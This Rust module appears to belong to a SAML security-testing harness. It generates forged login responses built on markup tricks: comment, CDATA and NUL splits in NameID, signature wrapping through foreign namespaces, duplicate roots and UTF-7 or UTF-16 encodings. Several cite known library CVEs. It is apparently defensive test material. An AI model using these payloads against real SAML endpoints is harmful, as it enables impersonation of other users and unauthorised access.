//! Attacks with markup that parsers read differently: processing instructions, CDATA, namespaces, encodings, more
//! than one root.

use vouchsafe_xml::namespace::{DSIG, SAML_ASSERTION};

use super::comment::{broken, longer, split};
use super::key_substitution::with_signature;
use super::scene::{Made, Scene};
use super::signature::Draft;
use super::surgery::{after, root, with_attribute};
use super::wrapping::{Parts, extensions, wrap};
use super::{Attack, Base, Kind};
use crate::{Attribute, Signed};

const fn row(name: &'static str, description: &'static str, make: fn(&Scene<'_>) -> Made) -> Attack {
    Attack::new(name, Kind::Markup, description, make).from(Base::Assertion)
}

const RUBY_SAML: &str = "CVE-2025-25291, CVE-2025-25292 (ruby-saml)";

pub(super) const ATTACKS: &[Attack] = &[
    row(
        "markup/instruction-name-id",
        "NameID \"victim<?x?>.evil\", signed in this form: the whole text or nothing",
        |scene| signed_so(scene, "<?x y?>"),
    ),
    row(
        "markup/element-name-id",
        "NameID \"victim<x/>.evil\", signed in this form: the whole text or nothing",
        |scene| signed_so(scene, "<x xmlns=\"urn:example:x\"></x>"),
    ),
    row("markup/cdata-name-id", "NameID \"<![CDATA[victim]]>.evil\": the whole text or nothing", |scene| {
        let name = longer(scene);
        let issued = scene.message_about(&name).issue()?.into_xml();
        let (victim, rest) = (scene.victim(), super::comment::SUFFIX);
        let bent = issued.replace(&format!(">{name}<"), &format!("><![CDATA[{victim}]]>{rest}<"));
        Ok(vec![scene.bent_about(name, bent)])
    }),
    row("markup/cdata-empty", "NameID \"victim<![CDATA[]]>.evil\": the whole text or nothing", |scene| {
        split(scene, scene.message_about(&longer(scene)), scene.victim(), "<![CDATA[]]>")
    }),
    row(
        "markup/cdata-attribute",
        "attribute value \"admin<![CDATA[.evil]]>\": the whole text or nothing",
        |scene| {
            let suffix = super::comment::SUFFIX;
            let issued =
                scene.message().attribute(Attribute::new("kit.role", [format!("admin{suffix}")])).issue()?;
            let bent =
                issued.xml().replace(&format!("admin{suffix}<"), &format!("admin<![CDATA[{suffix}]]><"));
            Ok(vec![scene.bent(bent).forging("admin")])
        },
    ),
    row("markup/cdata-assertion", "forged Assertion as CDATA in Extensions", |scene| {
        wrap(scene, |parts| {
            parts.extended(&parts.response(&[&parts.original]), &format!("<![CDATA[{}]]>", parts.evil))
        })
    }),
    row("markup/nul", "a NUL in the NameID, \"victim\\0.evil\"", |scene| {
        split(scene, scene.message_about(&longer(scene)), scene.victim(), "\0")
    }),
    row("markup/nul-reference", "a NUL as character reference in the NameID", |scene| {
        split(scene, scene.message_about(&longer(scene)), scene.victim(), "&#0;")
    }),
    row(
        "markup/foreign-assertion",
        "forged Assertion in an unknown namespace before the signed one",
        |scene| renamed(scene, "urn:example:x"),
    ),
    row(
        "markup/saml-1-assertion",
        "forged Assertion in the namespace of SAML 1.1 before the signed one",
        |scene| renamed(scene, "urn:oasis:names:tc:SAML:1.0:assertion"),
    ),
    row(
        "markup/default-namespace",
        "forged Assertion under the default namespace before the signed one",
        |scene| {
            wrap(scene, |parts| {
                let evil = parts.evil.replace("saml2:", "").replace("xmlns:saml2=", "xmlns=");
                Ok(parts.response(&[&evil, &parts.original]))
            })
        },
    ),
    row(
        "markup/foreign-id",
        "forged Assertion holds the signature and the ID as x:ID, the original follows",
        |scene| {
            wrap(scene, |parts| {
                let forged = parts.evil_with(&parts.signature)?;
                let id = format!("xmlns:x=\"urn:example:x\" x:ID=\"{}\"", parts.assertion_id());
                Ok(parts.response(&[&with_attribute(&forged, &["Assertion"], &id)?, &parts.bare]))
            })
        },
    ),
    row(
        "markup/undeclared-namespace",
        "a prefix is undeclared around the forged Assertion, which is not XML",
        |scene| {
            wrap(scene, |parts| {
                let evil = format!("<x:y xmlns:x=\"urn:example:x\" xmlns:saml2=\"\">{}</x:y>", parts.evil);
                Ok(parts.response(&[&evil, &parts.original]))
            })
        },
    ),
    row(
        "markup/foreign-signature-first",
        "a Signature of no namespace with a forged digest before the genuine one",
        |scene| {
            wrap(scene, |parts| {
                let fake = parts.signature.replace(DSIG, "urn:example:x");
                let response = parts.response(&[&parts.original]);
                Ok(super::surgery::before(&response, &["Response", "Assertion", "Signature"], &fake)?
                    .replace(scene.attacker(), scene.victim()))
            })
        },
    )
    .known_as(RUBY_SAML),
    row("markup/two-roots", "a forged Response, then the genuine one", |scene| two_roots(scene, true))
        .known_as("CVE-2022-39299 (passport-saml)"),
    row("markup/two-roots-last", "the genuine Response, then a forged one", |scene| two_roots(scene, false))
        .known_as("CVE-2022-39299 (passport-saml)"),
    row("markup/text-after-root", "text after the genuine Response", |scene| {
        Ok(vec![scene.bent([scene.message().issue()?.xml(), "text"].concat())])
    }),
    row("markup/style-sheet", "an xml-stylesheet instruction before the genuine Response", |scene| {
        let issued = scene.message().issue()?.into_xml();
        let sheet =
            "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"http://127.0.0.1:9/\"?>";
        Ok(vec![scene.bent([sheet, root(&issued)].concat())])
    }),
    row("markup/include", "an XInclude of /dev/null in Extensions of the genuine Response", |scene| {
        let include = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///dev/null\" parse=\"text\"/>";
        let issued = scene.message().issue()?.into_xml();
        Ok(vec![scene.bent(after(&issued, &["Response", "Issuer"], &extensions(include))?)])
    }),
    row("markup/xml-1.1", "the genuine Response as XML 1.1", |scene| {
        let issued = scene.message().issue()?.into_xml();
        Ok(vec![scene.bent(["<?xml version=\"1.1\"?>", root(&issued)].concat())])
    }),
    row(
        "markup/utf-7",
        "forged Assertion in Extensions, written in UTF-7, which the declaration names",
        |scene| {
            wrap(scene, |parts| {
                let hidden = parts.evil.replace('<', "+ADw-").replace('>', "+AD4-");
                let response = parts.extended(&parts.response(&[&parts.original]), &hidden)?;
                Ok(["<?xml version=\"1.0\" encoding=\"UTF-7\"?>", root(&response)].concat())
            })
        },
    ),
    row("markup/utf-16", "a forged Response in UTF-16 with the genuine signature", |scene| {
        let issued = scene.forged(scene.message().issue()?.xml()).replace("UTF-8", "UTF-16");
        let bytes: Vec<u8> =
            std::iter::once(0xfeff).chain(issued.encode_utf16()).flat_map(u16::to_le_bytes).collect();
        Ok(vec![scene.hostile(bytes)])
    }),
    row("markup/not-utf-8", "bytes that are not UTF-8 in Extensions of the genuine Response", |scene| {
        let issued = scene.message().issue()?.into_xml();
        let marked = after(&issued, &["Response", "Issuer"], &extensions("MARK"))?;
        let (head, tail) = marked.split_once("MARK").unwrap_or((&marked, ""));
        Ok(vec![scene.bent([head.as_bytes(), b"\xc0\xbc\xff", tail.as_bytes()].concat())])
    }),
    row("markup/unclosed", "the genuine Response without its end", |scene| {
        let issued = scene.message().issue()?.into_xml();
        Ok(vec![scene.bent(issued.trim_end().trim_end_matches("</saml2p:Response>"))])
    }),
    row("markup/recipient-list", "Recipient holds our address twice, a line end between", |scene| {
        let consumer = &scene.target().assertion_consumer;
        let issued = scene.message().recipient(format!("{consumer} {consumer}")).issue()?.into_xml();
        Ok(vec![
            scene.hostile(
                issued.replace(&format!("{consumer} {consumer}"), &format!("{consumer}\n{consumer}")),
            ),
        ])
    }),
];

/// Returns a message whose NameID is signed with a text in its middle that canonicalization keeps.
fn signed_so(scene: &Scene<'_>, with: &str) -> Made {
    let name = longer(scene);
    let unsigned = scene.message_about(&name).sign(Signed::Neither).issue()?.into_xml();
    let unsigned = broken(&unsigned, scene.victim(), with);
    let key = scene.target().identity_provider.key();
    let message =
        with_signature(&unsigned, |assertion| Draft::over(assertion)?.signed_by(key.private_key()))?;
    Ok(vec![scene.bent_about(name, message)])
}

fn renamed(scene: &Scene<'_>, namespace: &str) -> Made {
    wrap(scene, |parts| {
        let evil = parts.evil.replace(SAML_ASSERTION, namespace);
        Ok(parts.response(&[&evil, &parts.original]))
    })
}

fn two_roots(scene: &Scene<'_>, forged_first: bool) -> Made {
    let parts = Parts::of(scene)?;
    let (genuine, forged) = (parts.response(&[&parts.original]), parts.response(&[&parts.evil]));
    let both = if forged_first { [root(&forged), root(&genuine)] } else { [root(&genuine), root(&forged)] };
    Ok(vec![scene.bent(both.concat())])
}
